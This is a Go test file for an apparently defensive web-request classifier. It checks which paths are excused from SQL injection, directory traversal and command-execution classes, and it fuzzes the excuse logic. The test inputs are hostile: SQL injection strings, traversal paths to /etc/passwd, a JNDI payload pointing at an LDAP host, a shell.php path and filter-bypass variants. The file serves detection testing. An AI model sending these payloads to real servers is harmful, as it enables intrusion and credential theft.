package heuristic_test

import (
	"slices"
	"testing"

	"github.com/trailscope/trailscope/sensor/fuzzed"
	"github.com/trailscope/trailscope/sensor/heuristic"
)

func TestRequestClass_Excuses(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path string
		want bool
	}{
		// Advertisements.
		{"/ads/?u=1", true},
		{"/ads", true},
		{"/ads?client=x&q=a' or 1=1", true},
		{"/pagead/ads?client=ca", true},
		{"/gampad/ads?iu=/1/x", true},
		{"/pagead/js/adsbygoogle.js?x=1", true},
		{"/mads/gma?x=1", true},
		{"/ads/measurement/l?ebcid=", true},
		{"/api/v1.0/ads2/show", true},
		{"/js/show_ads_impl.js?x", true},
		{"/i/adsct?p_id=1", true},
		{"/delivery/native-ads.php?zone=1", true},
		{"/fql?q=select name from user where uid=1", true},
		{"/v1/public/yql?q=select * from x where y='z'", true},
		{"/gwx/x?a=b", true},

		// Words that hold the letters.
		{"/uploads/shell.php?x=1", false},
		{"/downloads/?id=1' or 1=1", false},
		{"/threads/1?x=1", false},
		{"/heads?x=1", false},
		{"/adsl/config.cgi?dns1=1", false},
		{"/roads/", false},
		{"/loads.php?x", false},
		{"/padsx/", false},
		{"/fqlx/", false},

		// What an attacker can add.
		{"/login.php?x=ads", false},
		{"/login.php?x=/ads/", false},
		{"/login.php#/ads/", false},
		{"/login.php/ads/?id=1", false},
		{"/ads/../login.php?id=1", false},
		{"/ads/..;/login?id=1", false},
		{`/ads\..\login?id=1`, false},
		{"", false},
		{"/", false},
	}
	for _, tt := range tests {
		if got := heuristic.ClassSQLInjection.Excuses([]byte(tt.path)); got != tt.want {
			t.Errorf("%q: %v", tt.path, got)
		}
		if heuristic.ClassRemoteCodeExecution.Excuses([]byte(tt.path)) {
			t.Errorf("%q excuses a command", tt.path)
		}
	}
}

func TestRequestClass_Excuses_traversal(t *testing.T) {
	t.Parallel()
	for path, want := range map[string]bool{
		"/wp-content/themes/x/../../../images/a.png":     true,
		"/css/../../..//js/x.js":                         false,
		"/css/../../../images/a.png?v=../../../assets/b": true,
		"/thumb.php?src=../../../images/a.png":           true,
		"/../../../etc/passwd":                           false,
		"/x.php?f=../../../etc/passwd&x=../images/":      false,
		"/../images/../../../etc/passwd":                 false,
		"/../../../etc/passwd/../images/":                false,
		"/../../../images":                               false,
		"/../../../imagesx/":                             false,
		"/images/x":                                      false,
		"/ads/../../../x":                                false,
		`/..\..\..\images/`:                              false,
		"/x?f=../../../":                                 false,
		"":                                               false,
	} {
		if got := heuristic.ClassDirectoryTraversal.Excuses([]byte(path)); got != want {
			t.Errorf("%q: %v", path, got)
		}
		if heuristic.ClassSQLInjection.Excuses([]byte(path)) {
			t.Errorf("%q excuses an injection", path)
		}
	}
}

// Next goes through all classes of a text in their order.
func TestRequests_Next(t *testing.T) {
	t.Parallel()
	q, err := heuristic.NewRequests()
	if err != nil {
		t.Fatal(err)
	}
	const mails = "a1@one.example,b2@two.example,c3@three.example,d4@four.example"
	tests := []struct {
		text string
		want []heuristic.RequestClass
	}{
		{"/ads/?x=${jndi:ldap://192.0.2.1/a}", []heuristic.RequestClass{heuristic.ClassSSTIInjection, heuristic.ClassRemoteCodeExecution}},
		{
			"/?q=' union select 1&m=" + mails + "&f=/etc/passwd",
			[]heuristic.RequestClass{heuristic.ClassSQLInjection, heuristic.ClassDataLeakage, heuristic.ClassDirectoryTraversal},
		},
		{"/?m=" + mails, []heuristic.RequestClass{heuristic.ClassDataLeakage}},
		{"/?dns1=1", []heuristic.RequestClass{heuristic.ClassDNSChanger}},
		{"/?x=1", nil},
	}
	for _, tt := range tests {
		var got []heuristic.RequestClass
		for class, ok := q.Classify([]byte(tt.text)); ok; class, ok = q.Next(class) {
			got = append(got, class)
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("%q: classes %v, want %v", tt.text, got, tt.want)
		}
	}
}

// excuseSeeds are paths for the fuzz tests.
func excuseSeeds() [][]byte {
	var seeds [][]byte
	for _, s := range []string{
		"/ads/?x", "/../images/../js/", "/a_ads2.php", "..", "/..", "../", "/ads/..;/x", "/x.y/ads", `\..\images/`, "/../../", "?", "#",
	} {
		seeds = append(seeds, []byte(s))
	}
	return seeds
}

// lookAtExcuse checks that what is excused would have been skipped, too.
func lookAtExcuse(tb testing.TB, path []byte) {
	tb.Helper()
	for class := heuristic.ClassSQLInjection; class <= heuristic.ClassDNSChanger; class++ {
		if class.Excuses(path) && !heuristic.SkipsRequest(path) {
			tb.Errorf("%q excuses %s and is not skipped", path, class.Info())
		}
	}
}

func TestRequestClass_damaged(t *testing.T) {
	fuzzed.Run(t, 20_000, excuseSeeds(), func(path []byte) { lookAtExcuse(t, path) })
}

func FuzzExcuses(f *testing.F) {
	for _, seed := range excuseSeeds() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, path []byte) { lookAtExcuse(t, path) })
}
